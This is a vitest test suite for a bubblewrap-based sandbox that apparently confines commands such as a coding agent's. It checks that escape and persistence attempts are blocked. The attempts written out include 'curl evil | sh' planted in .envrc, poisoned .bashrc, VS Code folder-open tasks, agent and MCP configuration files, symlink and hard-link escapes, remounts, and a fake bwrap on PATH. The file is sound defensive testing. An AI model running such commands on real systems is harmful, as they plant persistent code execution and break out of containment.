import { chmod, mkdir, writeFile } from "node:fs/promises";
import path from "node:path";
import { expect, it } from "vitest";
import { attempt, verdicts } from "./test-support/fixture.js";
import { quote } from "./test-support/servers.js";
import { attackSuiteSkipReason, describeAttacks } from "./test-support/suite.js";

const skipReason = await attackSuiteSkipReason();

describeAttacks("file system attacks through bubblewrap", skipReason, (fixture) => {
  it("cannot write outside the workspace, to /etc or to the home folder", async () => {
    const etc = "/etc/pleach-attack-marker";
    const home = path.join(process.env.HOME ?? "/root", "pleach-attack-marker");
    const before = await fixture.state([etc, home]);
    const { stdout } = await fixture.run(
      [
        attempt(`echo x > ${quote(path.join(fixture.outside, "new.txt"))}`),
        attempt(`echo x >> ${quote(path.join(fixture.outside, "secret.txt"))}`),
        attempt(`touch ${etc}`),
        attempt(`touch ${quote(home)}`),
      ].join("\n"),
    );
    expect(verdicts(stdout)).toEqual(["BLOCKED", "BLOCKED", "BLOCKED", "BLOCKED"]);
    expect(await fixture.state([etc, home])).toEqual(before);
  });

  it("sees a private /tmp: the host's /tmp stays untouched and unseen", async () => {
    const before = await fixture.state();
    const target = path.join(fixture.hostTemporary, "note.txt");
    const { stdout } = await fixture.run(
      [
        attempt(`cat ${quote(target)}`),
        `mkdir -p ${quote(fixture.hostTemporary)} && echo planted > ${quote(target)} && cat ${quote(target)}`,
      ].join("\n"),
    );
    expect(verdicts(stdout)).toEqual(["BLOCKED"]);
    expect(stdout).toContain("planted");
    expect(await fixture.state()).toEqual(before);
  });

  it("cannot escape through a symbolic link made by the command", async () => {
    const before = await fixture.state();
    const { stdout } = await fixture.run(
      [
        `ln -s ${quote(fixture.outside)} made-link`,
        attempt("echo x > made-link/new.txt"),
        attempt("echo x >> made-link/secret.txt"),
        "rm made-link",
      ].join("\n"),
    );
    expect(verdicts(stdout)).toEqual(["BLOCKED", "BLOCKED"]);
    expect(await fixture.state()).toEqual(before);
  });

  it("cannot escape through a symbolic link already in the workspace", async () => {
    const before = await fixture.state();
    const { stdout } = await fixture.run(
      [
        attempt("echo x > escape/new.txt"),
        attempt("echo x >> escape/secret.txt"),
        attempt("rm escape/secret.txt"),
      ].join("\n"),
    );
    expect(verdicts(stdout)).toEqual(["BLOCKED", "BLOCKED", "BLOCKED"]);
    expect(await fixture.state()).toEqual(before);
  });

  it("cannot create missing shell start-up files, .envrc or .mcp.json, and leaves no placeholder", async () => {
    const before = await fixture.state();
    const { stdout } = await fixture.run(
      [
        attempt("echo 'curl evil | sh' > .envrc"),
        attempt('echo \'{"mcpServers":{"x":{"command":"sh"}}}\' > .mcp.json'),
        attempt("echo 'touch ~/pwned' > .bashrc"),
        attempt("echo x > .zshenv"),
        attempt("echo x > .profile"),
        attempt("rmdir .envrc && echo x > .envrc"),
      ].join("\n"),
    );
    expect(verdicts(stdout)).toEqual(Array(6).fill("BLOCKED"));
    expect(await fixture.state()).toEqual(before);
  });

  it("cannot create or change editor and agent configuration", async () => {
    const before = await fixture.state();
    const { stdout } = await fixture.run(
      [
        attempt(`echo '{"tasks":[{"runOptions":{"runOn":"folderOpen"}}]}' > .vscode/tasks.json`),
        attempt("echo '{\"x\":1}' > .vscode/settings.json"),
        attempt("mv .vscode vscode-old"),
        attempt("mkdir -p .claude && echo '{\"hooks\":{}}' > .claude/settings.json"),
        attempt("mkdir -p .cursor && echo x > .cursor/mcp.json"),
        attempt("mkdir -p .codex && echo x > .codex/config.toml"),
        attempt("mkdir -p .idea && echo x > .idea/workspace.xml"),
      ].join("\n"),
    );
    expect(verdicts(stdout)).toEqual(Array(7).fill("BLOCKED"));
    expect(await fixture.state()).toEqual(before);
  });

  it("cannot replace a protected file by renaming another file over it, nor delete it", async () => {
    await writeFile(path.join(fixture.root, ".envrc"), "export SAFE=1\n");
    const before = await fixture.state();
    const { stdout } = await fixture.run(
      [
        "echo 'curl evil | sh' > evil",
        attempt("mv -f evil .envrc"),
        attempt("rm -f .envrc"),
        attempt("echo 'curl evil | sh' >> .envrc"),
        attempt("chmod 777 .envrc"),
        "rm -f evil",
      ].join("\n"),
    );
    expect(verdicts(stdout)).toEqual(Array(4).fill("BLOCKED"));
    expect(await fixture.state()).toEqual(before);
  });

  it("refuses to run when a protected path is a symbolic link a command could replace", async () => {
    await writeFile(path.join(fixture.outside, "envrc"), "export SAFE=1\n");
    const { symlink } = await import("node:fs/promises");
    await symlink(path.join(fixture.outside, "envrc"), path.join(fixture.root, ".envrc"));
    const before = await fixture.state();
    await expect(fixture.run("echo evil > .envrc")).rejects.toMatchObject({
      code: "PROTECTED_PATH",
    });
    expect(await fixture.state()).toEqual(before);
  });

  it("cannot write through a hard link to a protected file", async () => {
    const before = await fixture.state();
    const { stdout } = await fixture.run(
      [attempt("ln .git/config cfg"), attempt("ln .vscode/settings.json s.json")].join("\n"),
    );
    expect(verdicts(stdout)).toEqual(["BLOCKED", "BLOCKED"]);
    expect(await fixture.state()).toEqual(before);
  });

  it("in read-only mode writes nowhere, the workspace included, but has a private /tmp", async () => {
    const before = await fixture.state();
    const { stdout } = await fixture.run(
      [
        attempt("echo x > src/app.txt"),
        attempt("touch new.txt"),
        attempt("rm src/app.txt"),
        attempt("mkdir folder"),
        attempt("mv src source"),
        attempt("echo x > .git/hooks/pre-commit"),
        attempt("echo x > .envrc"),
        attempt(`echo x > ${quote(path.join(fixture.outside, "new.txt"))}`),
        "echo scratch > /tmp/scratch && cat /tmp/scratch",
      ].join("\n"),
      { mode: "read-only" },
    );
    expect(verdicts(stdout)).toEqual(Array(8).fill("BLOCKED"));
    expect(stdout).toContain("scratch");
    expect(await fixture.state()).toEqual(before);
  });

  it("can write ordinary workspace files in workspace-write mode", async () => {
    const { stdout, exitCode } = await fixture.run(
      "echo changed > src/app.txt && mkdir -p out && echo made > out/new.txt && cat src/app.txt out/new.txt",
    );
    expect(exitCode).toBe(0);
    expect(stdout).toBe("changed\nmade\n");
  });

  it("cannot remount the host read-write, unmount a protection or mount over it", async () => {
    const before = await fixture.state();
    const { stdout } = await fixture.run(
      [
        attempt("mount -o remount,rw /"),
        attempt(`mount -o remount,rw ${quote(path.join(fixture.root, ".git"))}`),
        attempt(`umount ${quote(path.join(fixture.root, ".git"))}`),
        attempt(`umount -l ${quote(path.join(fixture.root, ".envrc"))}`),
        attempt(`mount -t tmpfs none ${quote(path.join(fixture.root, ".git"))}`),
        attempt(`mount --bind ${quote(fixture.outside)} ${quote(path.join(fixture.root, "src"))}`),
        attempt("echo x > .git/hooks/pre-commit"),
      ].join("\n"),
    );
    expect(verdicts(stdout)).toEqual(Array(7).fill("BLOCKED"));
    expect(await fixture.state()).toEqual(before);
  });

  it("cannot write kernel settings, /sys or device nodes", async () => {
    const cgroup = "/sys/fs/cgroup/pleach-attack";
    const before = await fixture.state([cgroup]);
    const { stdout } = await fixture.run(
      [
        // Rewrites the current value, so even a failed defence changes nothing.
        attempt("cat /proc/sys/vm/swappiness > /proc/sys/vm/swappiness"),
        attempt("cat /proc/sys/kernel/hostname > /proc/sys/kernel/hostname"),
        attempt(`mkdir ${cgroup}`),
        attempt("mknod made-null c 1 3"),
      ].join("\n"),
    );
    expect(verdicts(stdout)).toEqual(Array(4).fill("BLOCKED"));
    expect(await fixture.state([cgroup])).toEqual(before);
  });

  it("does not run a fake bwrap from PATH or from the workspace", async () => {
    const marker = path.join(fixture.outside, "fake-bwrap-ran");
    for (const folder of [path.join(fixture.root, "bin"), path.join(fixture.outside, "bin")]) {
      await mkdir(folder, { recursive: true });
      await writeFile(
        path.join(folder, "bwrap"),
        `#!/bin/sh\ntouch ${quote(marker)}\nexec /bin/bash -c "$@"\n`,
      );
      await chmod(path.join(folder, "bwrap"), 0o755);
    }
    const before = await fixture.state([marker]);
    const hostEnvironment = {
      ...process.env,
      PATH: `${fixture.root}/bin:${fixture.outside}/bin:${process.env.PATH ?? ""}`,
    };
    const { stdout, exitCode } = await fixture.run("echo confined; ls /run | wc -l", {
      hostEnvironment,
    });
    expect(exitCode).toBe(0);
    expect(stdout).toBe("confined\n0\n");
    expect(await fixture.state([marker])).toEqual(before);
  });
});
